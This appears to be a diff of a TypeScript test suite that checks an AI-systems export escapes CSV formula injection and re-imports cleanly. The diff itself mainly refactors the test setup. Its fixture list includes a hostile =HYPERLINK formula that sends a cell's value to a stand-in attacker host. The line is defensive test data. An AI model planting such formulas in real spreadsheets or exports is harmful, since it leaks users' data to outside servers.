@@ -1,10 +1,11 @@
 /** CSV exports neutralise formulas (OWASP), and the neutralised file re-imports unchanged. */
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { call } from '../harness/api.js';
-import type { ApiTestContext, ApiUser } from '../harness/api.js';
-import { createOrgApi, createOrgWithUser } from '../harness/org-api.js';
+import type { ApiUser } from '../harness/api.js';
+import { orgApiForSuite, createOrgWithUser } from '../harness/org-api.js';
 import { multipartFile } from '../harness/upload.js';
+import { createAiSystem } from '../harness/services.js';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.test/?"&A1,"Open")',
@@ -15,13 +16,11 @@ const HOSTILE = [
 ];
 
 describe('CSV formula injection', () => {
-  let ctx: ApiTestContext;
-  let source: ApiUser;
+  const api = orgApiForSuite({ name: 'Exporter' }, { source: ['aims_manager'] });
   let target: ApiUser;
-  let fromId: string;
   let toId: string;
   const csvOf = async (user: ApiUser, orgId: string) => {
-    const response = await call(ctx, user, {
+    const response = await call(api.ctx, user, {
       method: 'GET',
       url: `/api/v1/orgs/${orgId}/ai-systems/export?format=csv`,
     });
@@ -30,41 +29,33 @@ describe('CSV formula injection', () => {
   };
 
   beforeAll(async () => {
-    ({
-      ctx,
-      orgId: fromId,
-      source,
-    } = await createOrgApi({ name: 'Exporter' }, { source: ['aims_manager'] }));
-    const to = await createOrgWithUser(ctx, ['aims_manager'], 'Importer');
+    const to = await createOrgWithUser(api.ctx, ['aims_manager'], 'Importer');
     toId = to.org.id;
     target = to.user;
     for (const [index, text] of HOSTILE.entries()) {
-      await ctx.services.aiSystems.create(source.actor, fromId, {
+      await createAiSystem(api.ctx.services, api.source, api.orgId, {
         name: `${text} ${index}`,
         purpose: text,
-        lifecycleStage: 'deployment',
-        isInScope: true,
       });
     }
   });
-  afterAll(async () => ctx.close());
 
   it('writes no cell that a spreadsheet would run as a formula', async () => {
-    const rows: string[][] = parse(await csvOf(source, fromId), { bom: true });
+    const rows: string[][] = parse(await csvOf(api.source, api.orgId), { bom: true });
     const cells = rows.slice(1).flat();
     expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
     expect(cells).toContain(`'${HOSTILE[0]}`);
   });
 
   it('re-imports the neutralised file with every text as it was', async () => {
-    const csv = await csvOf(source, fromId);
-    const imported = await call(ctx, target, {
+    const csv = await csvOf(api.source, api.orgId);
+    const imported = await call(api.ctx, target, {
       method: 'POST',
       url: `/api/v1/orgs/${toId}/ai-systems/import`,
       ...multipartFile('systems.csv', csv),
     });
     expect(imported.statusCode).toBe(201);
-    const list = await call(ctx, target, {
+    const list = await call(api.ctx, target, {
       method: 'GET',
       url: `/api/v1/orgs/${toId}/ai-systems?pageSize=50`,
     });
